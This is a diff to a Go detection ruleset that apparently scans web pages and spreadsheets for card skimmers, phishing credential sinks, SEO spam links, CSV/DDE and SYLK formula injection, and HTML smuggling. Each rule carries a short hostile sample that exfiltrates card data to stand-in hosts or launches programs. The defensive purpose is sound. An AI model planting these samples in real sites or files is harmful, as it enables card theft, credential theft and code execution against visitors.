@@ -19,7 +19,7 @@ const (
 	// aSecret is a password or a number that only its owner and his bank know.
 	aSecret = `(pass(word|wd|wort|code)?|pwd|passw|pin|tan|otp|cvv2?|cvc2?|ssn|card_?num(ber)?|cc_?num(ber)?)\d?`
 	// notSeen is a style of what visitors do not see.
-	notSeen = `(display:\s*none|visibility:\s*hidden|font-size:\s*0|(left|top|text-indent|margin-left):\s*-\d{3,}(px|em))`
+	notSeen = `(display:\s*none|visibility:\s*hidden|font-size:\s*0|(left|top|text-indent|margin-left):\s*-\d{3,}(px|em)|\b(height|width):\s*[01](px)?\s*[;"']|opacity:\s*0\s*[;"'])`
 	// spam is what such links sell.
 	spam = `(buy|cheap|order|generic|discount)[ -](viagra|cialis|levitra|tramadol|xanax|kamagra)|(viagra|cialis|levitra)[ -](online|no[ -]prescription)|online[ -](casino|slots)|casino[ -](online|bonus)|payday[ -]loans?|replica[ -](watch|rolex|handbag)|essay[ -]writing[ -]service|slot[ -]gacor|\bjudi[ -](online|bola)`
 )
@@ -29,6 +29,9 @@ var pagePlants = []plant{
 	{what: "a script that reads payment cards, and hides the address that it sends them to", kind: loot, source: atSkimmers,
 		example: `document.querySelectorAll("input").forEach(e=>{if(/cc_number|cvv/i.test(e.name))d[e.name]=e.value});new Image().src=atob("aHR0cHM6Ly9ldmlsLmV4YW1wbGUv")+btoa(JSON.stringify(d))`,
 		parts:   []part{like(hiddenAddress, "atob", "fromcharcode", `\x68\x74\x74\x70`, `\x77\x73\x73`), like(cardField, "cc", "card", "cv", "securitycode"), marked(".value", "formdata", "serialize(")}},
+	{what: "a script that encodes payment cards and sends them", kind: doubtful, source: atSkimmers,
+		example: `var d={n:document.querySelector("#card-number").value};navigator.sendBeacon("https://stats.example/c",btoa(JSON.stringify(d)))`,
+		parts:   []part{like(`\bbtoa\s*\(\s*((unescape|encodeuricomponent)\s*\(\s*)*json\.stringify`, "btoa"), like(cardField, "cc", "card", "cv", "securitycode"), like(`\bfetch\s*\(\s*["']https?:|\bsendbeacon\s*\(|xmlhttprequest|\$\.(post|ajax)`, "fetch", "sendbeacon", "xmlhttprequest", "$.")}},
 	{what: "a script that sends payment cards as the address of a picture", kind: doubtful, source: atSkimmers,
 		example: `if(f["cc_number"].value){new Image().src="https://stats.example/g.gif?d="+btoa(JSON.stringify(f))}`,
 		parts:   []part{marked("btoa("), like(cardField, "cc", "card", "cv", "securitycode"), like(`new\s+image\b|\bsendbeacon\s*\(|\bcreateelement\(["']img`, "image", "sendbeacon", "createelement"), marked(".value", "formdata", "serialize(")}},
@@ -36,7 +39,7 @@ var pagePlants = []plant{
 	{what: "a page that sends the passwords of its visitors on, and its visitors to another site", kind: loot, source: atPhishing,
 		example: `<?php mail("a@b.example","Log","PIN: ".$_POST["pin"]."\nIP: ".$_SERVER["REMOTE_ADDR"]);header("Location: https://www.bank.example"); ?>`,
 		parts: []part{like(`\$_(post|request)\s*\[\s*["']\w*?`+aSecret+`["']`, "$_post", "$_request"), like(`\bmail\s*\(|\bfwrite\s*\(|\bfile_put_contents\s*\(|api\.telegram\.org/bot`, "mail", "fwrite", "file_put", "telegram"),
-			marked("remote_addr", "http_client_ip", "http_user_agent"), like(`\bheader\s*\(\s*["']location:\s*https?://|\b(window|document|top)\.location(\.href)?\s*=\s*["']https?://|http-equiv=["']?refresh[^>]*https?://`, "location", "refresh")}},
+			like(`remote_addr|http_client_ip|http_user_agent|[:=|>-] *["']\s*\.\s*\$_(post|request)\s*\[\s*["']\w*?`+aSecret+`["']`, "remote_addr", "http_client_ip", "http_user_agent", "$_post", "$_request"), like(`\bheader\s*\(\s*["']location:\s*https?://|\b(window|document|top)\.location(\.href)?\s*=\s*["']https?://|http-equiv=["']?refresh[^>]*https?://`, "location", "refresh")}},
 	{what: "a page that sends the passwords of its visitors to a chat", kind: loot, source: atPhishing,
 		example: `<?php $m=$_POST["email"]." ".$_POST["password"];file_get_contents("https://api.telegram.org/bot123:AA/sendMessage?chat_id=1&text=".urlencode($m)); ?>`,
 		parts:   []part{like(`\$_(post|request)\s*\[\s*["']\w*?`+aSecret+`["']|\b(pass(word|wd)?|pwd|pin|otp)\b\w*\.value\b`, "$_post", "$_request", ".value"), marked("api.telegram.org/bot", "discord.com/api/webhooks", "discordapp.com/api/webhooks")}},
@@ -58,11 +61,20 @@ var pagePlants = []plant{
 		parts:   []part{like(`http_referer["']?\s*\]?[\s\S]{0,200}`+searchEngines+`|`+searchEngines+`[\s\S]{0,200}http_referer|`+searchEngines+`[\s\S]{0,80}document\.referrer|document\.referrer[\s\S]{0,200}`+searchEngines, "referer", "referrer"), like(`\bheader\s*\(\s*["']location:\s*https?://|\blocation(\.href)?\s*=\s*["']https?://|\blocation\.replace\s*\(\s*["']https?://`, "location")}},
 	{what: "hidden links, as spam for search engines has them", kind: defaced, source: atSEO,
 		example: `<div style="position:absolute;left:-9999px"><a href="http://pillz.example/1">buy viagra</a></div>`,
-		parts:   []part{like(`style\s*=\s*["'][^"'>]*`+notSeen+`[^>]*>(\s|<\w+>|<!--|[^<]{0,40})*<a\s[^>]*>[^<]*(`+spam+`)|style\s*=\s*["'][^"'>]*`+notSeen+`[^>]*>\s*(<a\s[^>]*href\s*=\s*["']?https?://[^>]*>[^<]{0,80}</a>\s*){3}[\s\S]{0,400}(`+spam+`)`, "display", "visibility", "font-size", "position", "indent", "margin")}},
+		parts:   []part{like(`style\s*=\s*["'][^"'>]*`+notSeen+`[^>]*>(\s|<\w+>|<!--|[^<]{0,40})*<a\s[^>]*>[^<]*(`+spam+`)|style\s*=\s*["'][^"'>]*`+notSeen+`[^>]*>\s*(<a\s[^>]*href\s*=\s*["']?https?://[^>]*>[^<]{0,80}</a>\s*){3}[\s\S]{0,400}(`+spam+`)`, "display", "visibility", "font-size", "position", "indent", "margin", "height", "width", "opacity")}},
+	{what: "links to all that spam for search engines sells", kind: defaced, source: atSEO,
+		example: `<a href="http://a.example/">cheap viagra</a> <a href="http://b.example/">online casino</a> <a href="http://c.example/">payday loans</a>`,
+		parts:   []part{like(`<a\s[^>]*>[^<]*\b(viagra|cialis|levitra)\b`, "viagra", "cialis", "levitra"), like(`<a\s[^>]*>[^<]*\b(casino|poker|slots)\b`, "casino", "poker", "slots"), like(`<a\s[^>]*>[^<]*(payday|replica|essay|escort)`, "payday", "replica", "essay", "escort")}},
 
 	{what: "a table whose cells start programs", kind: loot, fetched: true, source: "MITRE ATT&CK, T1559.002 (dynamic data exchange); CWE-1236",
 		example: "1,=cmd|'/c calc'!A1,2\n",
-		parts:   []part{like(`(^|[,;\t"'\n])\s*[=+@-]\s*(@?sum\([^)]*\)\s*\*\s*|\d+\s*[+*-]\s*\d*\s*)?(cmd|powershell|msexcel|mshta|regsvr32|rundll32|wscript|cscript|certutil|bitsadmin|calc|notepad)(\.exe)?\s*\|\s*["']|(^|[,;\t"'\n])=\s*dde\s*\(\s*"+(cmd|powershell|mshta)`, "|", "dde")}},
+		parts:   []part{like(`(^|[,;\t"'\n])\s*[=+@-]\s*(@?sum\([^)]*\)\s*[*+-]\s*|[\d\s+*/().-]{1,40})?(cmd|powershell|msexcel|mshta|regsvr32|rundll32|wscript|cscript|certutil|bitsadmin|calc|notepad)(\.exe)?\s*\|\s*["']|(^|[,;\t"'\n])=?\s*dde\s*\(\s*"+(cmd|powershell|mshta)|\bddeauto\s+["\\]*(c:|cmd|powershell|mshta)`, "|", "dde")}},
+	{what: "a table of symbolic links (SYLK) whose macro starts a program", kind: loot, fetched: true, source: "MITRE ATT&CK, T1559.002 (dynamic data exchange)",
+		example: "ID;P\nO;E\nNN;NAuto_open;ER101C1\nC;X1;Y101;EEXEC(\"CMD.EXE /c calc\")\n",
+		parts:   []part{like(`^id;p`, "id;p"), like(`\be(exec|call)\s*\(`, "exec", "call")}},
+	{what: "a page that makes a program on the computer of its visitor", kind: loot, fetched: true, source: "MITRE ATT&CK, T1027.006 (HTML smuggling)",
+		example: `<script>var d=atob("TVqQAAMAAAAEAAAA");var b=new Blob([d]);a.href=URL.createObjectURL(b);a.download="invoice.exe";a.click();</script>`,
+		parts:   []part{like(`\bnew\s+(file|blob)\b|mssaveoropenblob`, "blob", "new file"), like(`["'`+"`"+`](tvqq|tvpq|tvro|tvqa)[a-z0-9+/]|\.download\s*=\s*["'][^"'\n]*\.(exe|scr|iso|img|hta|js|vbs|lnk|msi)["']`, "tv", "download")}},
 	{what: "a table whose cells send other cells to a site", kind: doubtful, fetched: true, source: "OWASP, CSV injection; CWE-1236",
 		example: "1,\"=HYPERLINK(\"\"http://203.0.113.9/?\"\"&A1&A2,\"\"ok\"\")\"\n",
 		parts:   []part{like(`[=+@-]\s*(hyperlink|webservice|image|importxml|importdata|importhtml|importfeed)\s*\(\s*(concat\w*\s*\(\s*)?"+(https?|ftp)://[^"\n]*"+\s*[&,;]\s*(concat\w*\s*\(\s*)?\$?[a-z]{1,2}\$?\d`, "hyperlink", "webservice", "image", "import")}},
